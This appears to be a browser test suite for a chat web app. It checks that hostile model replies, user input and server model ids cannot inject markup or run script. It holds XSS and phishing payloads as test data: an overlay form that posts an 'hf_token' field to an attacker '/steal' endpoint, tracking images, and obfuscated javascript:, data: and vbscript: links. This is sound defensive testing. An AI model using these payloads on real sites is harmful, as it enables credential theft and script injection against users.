"""A hostile model reply, a hostile user message and a hostile server, in Chromium (issues #17 and
#24): the model's reply and the server's model id are chosen by the TGI double, and a server on
another port stands for the attacker's site, recording every request it gets. Markup in a message
shows as text, and no link in it has a scheme but http, https or mailto, however it is spelled;
markdown, code, tables and math still render; the model id shows as text; no inline script runs
but the page's own; the page runs under its Content-Security-Policy without a violation of its own."""

from __future__ import annotations

import contextlib

import pytest
from playwright.sync_api import expect

from chat.backends.remote.tgi import TGIBackend
from chat.config import Settings
from tests.browser.chat_page import ChatPage
from tests.helpers import RecordingServer, serve_app
from tests.tgi_double import Reply, TGIDouble

pytestmark = pytest.mark.browser

NORMAL_REPLY = "A falcon is a bird of prey."
# Records each policy violation the page reports, from the first script on.
RECORD_VIOLATIONS = """window.cspViolations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.cspViolations.push(e.violatedDirective + " " + e.blockedURI));"""


def phishing(attacker: str) -> str:
    """A reply that draws a login form over the whole page and loads two images from elsewhere."""
    return (
        "Your session expired.\n\n"
        '<div id="overlay" style="position:fixed;inset:0;z-index:99999;background:white">'
        f'<form action="{attacker}/steal" method="post"><input name="hf_token" placeholder="HF token">'
        '<button type="submit">Log in</button></form></div>\n\n'
        f"![tracking pixel]({attacker}/pixel.png) and <img src='{attacker}/img.png'>"
    )


RICH_REPLY = (
    "| name | amount |\n|---|---|\n| Alice | 120 |\n\n"
    '```html\n<form action="/x"><input name="a"></form>\n```\n\n'
    "$$\\frac{a}{b}$$\n\n**bold** and `<b>code</b>`"
)


# Every way of writing a link that runs script, SVG included: a click on any must run nothing.
# Gradio's sanitizer removed the HTML ones and kept the SVG ones.
SCRIPT_LINKS = (
    '<svg width="300" height="24"><a href="javascript:window.pwned=1"><text x="2" y="16">one</text></a></svg> '
    '<svg width="300" height="24"><a href=" JaVaScRiPt:window.pwned=2"><text x="2" y="16">two</text></a></svg> '
    '<svg width="300" height="24"><a href="&#106;avascript:window.pwned=3"><text x="2" y="16">three</text></a></svg> '
    '<svg width="300" height="24"><a href="java&#x09;script:window.pwned=4"><text x="2" y="16">four</text></a></svg> '
    '<svg width="300" height="24"><a xlink:href="javascript:window.pwned=5"><text x="2" y="16">five</text></a></svg> '
    '<svg width="300" height="24"><a href="data:text/html,&lt;script&gt;parent.pwned=6&lt;/script&gt;">'
    '<text x="2" y="16">six</text></a></svg> '
    '<a href="vbscript:msgbox(7)">seven</a> [eight](javascript:window.pwned=8) '
    '<math href="javascript:window.pwned=9"><mi>nine</mi></math>\n\n'
    'Safe ones stay: [site](https://example.com/a) <a href="mailto:someone@example.com">mail</a> '
    '<svg width="300" height="24"><a href="https://example.com/b"><text x="2" y="16">svg site</text></a></svg>'
)
# The URL of every link, source or action in a message (any attribute a browser follows or
# loads), and every other attribute whose value reads as a script or data URL, with its scheme.
URL_SCHEMES = """(message) => [message, ...message.querySelectorAll('*')].flatMap((element) =>
  [...element.attributes].flatMap((attribute) => {
    const followed = /^(href|xlink:href|src|srcset|action|formaction|poster|data)$/i.test(attribute.name);
    let scheme;
    try { scheme = new URL(attribute.value, document.baseURI).protocol; } catch (error) { return []; }
    const described = element.tagName + ' ' + attribute.name + ' ' + scheme;
    return followed || /^(javascript|vbscript|data):$/.test(scheme) ? [described] : [];
  }))"""


@pytest.fixture(scope="module")
def attacker():
    """The attacker's site: answers everything with 200 and records each request."""
    site = RecordingServer(200)
    yield site
    site.close()


@pytest.fixture(scope="module")
def hostile_url(attacker):
    """The app on a TGI server whose replies the attacker chose, by the message's last word."""
    replies = {"phish": phishing(attacker.url), "rich": RICH_REPLY, "links": SCRIPT_LINKS}
    with TGIDouble() as double:
        double.reply_for = lambda body: Reply(
            text=replies.get(body["inputs"].rsplit("User:", 1)[-1].split()[-2], NORMAL_REPLY)
        )
        with served_on(double) as url:
            yield url


@contextlib.contextmanager
def served_on(double: TGIDouble):
    """The app with its TGI backend on `double`; yields its URL."""
    backend = TGIBackend([double.url])
    try:
        with serve_app(backend, Settings(backend="tgi", endpoints=(double.url,))) as url:
            yield url
    finally:
        backend.close()


@pytest.fixture
def hostile_chat(page, hostile_url) -> ChatPage:
    page.add_init_script(RECORD_VIOLATIONS)
    return ChatPage(page, hostile_url).open()


def applied_styles(message) -> list[str]:
    """The inline styles inside `message` that took effect (a background or a position)."""
    return message.evaluate(
        """(e) => [...e.querySelectorAll('[style]')]
          .filter(x => getComputedStyle(x).position !== 'static'
                    || getComputedStyle(x).backgroundColor === 'rgb(255, 255, 255)')
          .map(x => x.getAttribute('style'))"""
    )


def page_runs_under_its_policy(page) -> bool:
    """Nothing was blocked but inline style attributes (Gradio's page sets its flex layout in
    some, which chat.web.security.CHAT_CSS restates), and that layout holds."""
    violations = page.evaluate("window.cspViolations")
    assert all(v.startswith("style-src-attr") for v in violations), violations
    return page.evaluate("() => getComputedStyle(document.body).display") == "flex"


def covers_the_page(page) -> bool:
    """Whether something of a message lies over the middle of the message box."""
    return page.evaluate(
        """() => {
          const box = [...document.querySelectorAll('textarea')].find(t => t.offsetParent);
          const r = box.getBoundingClientRect();
          const top = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
          return !!(top && top.closest('[data-testid=bot], [data-testid=user]'));
        }"""
    )


def test_a_phishing_reply_shows_as_text_and_loads_nothing(hostile_chat, attacker):
    chat, page = hostile_chat, hostile_chat.page
    chat.ask("Please log me in phish")
    bot = chat.bot_messages.last
    expect(bot).to_contain_text("Your session expired.")
    expect(bot).to_contain_text('<form action="')  # shown as the text it is
    for tag in ["form", "input", "img"]:
        assert bot.locator(tag).count() == 0, tag
    assert bot.evaluate("(e) => [...e.querySelectorAll('button')].filter((b) => b.form).length") == 0
    assert applied_styles(bot) == []
    assert not covers_the_page(page)
    assert not [request for request in attacker.requests if "pixel" in request or "img" in request]
    assert page_runs_under_its_policy(page)
    assert chat.ask("And now a normal question") == NORMAL_REPLY


def test_a_users_own_markup_shows_as_text(hostile_chat, attacker):
    chat, page = hostile_chat, hostile_chat.page
    chat.ask(phishing(attacker.url).replace("\n\n", " ") + " hello")
    user = chat.user_messages.last
    expect(user).to_contain_text("Your session expired.")
    for tag in ["form", "input", "img"]:
        assert user.locator(tag).count() == 0, tag
    assert applied_styles(user) == []
    assert not covers_the_page(page)
    assert not attacker.requests


def test_markdown_code_tables_and_math_still_render(hostile_chat):
    chat = hostile_chat
    chat.ask("Show me everything rich")
    bot = chat.bot_messages.last
    expect(bot.locator("table td").first).to_have_text("Alice")
    expect(bot.locator("pre code")).to_contain_text('<form action="/x">')
    expect(bot.locator("button.copy_code_button")).to_have_count(1)  # Gradio's own, still a button
    expect(bot).not_to_contain_text("<button")
    expect(bot).not_to_contain_text("<svg")
    expect(bot.locator(".katex").first).to_be_visible()
    expect(bot.locator("strong")).to_have_text("bold")
    expect(bot.locator("code").last).to_have_text("<b>code</b>")
    assert page_runs_under_its_policy(chat.page)


def test_no_link_in_a_reply_has_a_scheme_but_http_https_or_mailto_and_a_click_runs_nothing(hostile_chat):
    chat, page = hostile_chat, hostile_chat.page
    chat.ask("Give me some links")
    bot = chat.bot_messages.last
    expect(bot).to_contain_text("svg site")
    schemes = bot.evaluate(URL_SCHEMES)
    assert schemes and all(scheme.endswith(("http:", "https:", "mailto:")) for scheme in schemes), schemes
    assert any("mailto:" in scheme for scheme in schemes) and any("https:" in s for s in schemes)
    address = page.url
    for label in ["one", "two", "three", "four", "five", "six", "seven", "eight"]:
        bot.locator("a").filter(has_text=label).dispatch_event("click")  # the page must not follow it
    assert page.evaluate("window.pwned") is None
    assert page.url == address
    assert page_runs_under_its_policy(page)
    assert chat.ask("And now a normal question") == NORMAL_REPLY


def test_no_inline_script_runs_but_the_pages_own(hostile_chat, hostile_url):
    """The policy has no 'unsafe-inline' for scripts: the page's own scripts carry a nonce of the
    response (and the head's a hash), so a script or a `javascript:` URL that got into the page by
    any other way does not run, and the browser reports it."""
    import httpx

    page = hostile_chat.page
    policy = httpx.get(hostile_url).headers["content-security-policy"]
    scripts = next(d for d in policy.split("; ") if d.startswith("script-src "))
    assert "'unsafe-inline'" not in scripts and "'nonce-" in scripts
    page.evaluate(
        """() => {
          const link = document.createElement('a');
          link.id = 'planted';
          link.href = 'javascript:window.pwned=10';
          link.textContent = 'planted';
          document.body.append(link);
          const script = document.createElement('script');
          script.textContent = 'window.pwned = 11';
          document.body.append(script);
        }"""
    )
    page.locator("#planted").click()
    expect(page.locator("#planted")).to_be_attached()
    # the browser reports a violation in a task of its own, after the click returns
    page.wait_for_function("window.cspViolations.filter(v => v.startsWith('script-src')).length >= 2")
    assert page.evaluate("window.pwned") is None
    violations = page.evaluate("window.cspViolations")
    assert sum(v.startswith("script-src") for v in violations) == 2, violations
    assert page.evaluate("typeof window.falconChat") == "object"  # the page's own script ran


HOSTILE_MODEL_ID = (
    '<form action="http://127.0.0.1:9/steal"><input name="hf_token"></form> '
    '<a href="javascript:window.pwned=12">x</a> [y](javascript:window.pwned=13) **bold** www.example.com'
)


@pytest.fixture(scope="module")
def hostile_model_url():
    """The app on a TGI server whose /info names a model id full of markup."""
    with TGIDouble(model_id=HOSTILE_MODEL_ID) as double, served_on(double) as url:
        yield url


def test_a_servers_model_id_shows_as_the_text_it_is(page, hostile_model_url):
    page.add_init_script(RECORD_VIOLATIONS)
    ChatPage(page, hostile_model_url).open()
    description = page.locator(".prose, .md").filter(has_text="Chatting with").last
    expect(description).to_contain_text(f"Chatting with {HOSTILE_MODEL_ID} through")
    for tag in ["form", "input", "a", "strong strong", "em"]:
        assert description.locator(tag).count() == 0, tag
    assert page.locator("#banner").locator("form, input, a").count() == 0
    assert page_runs_under_its_policy(page)
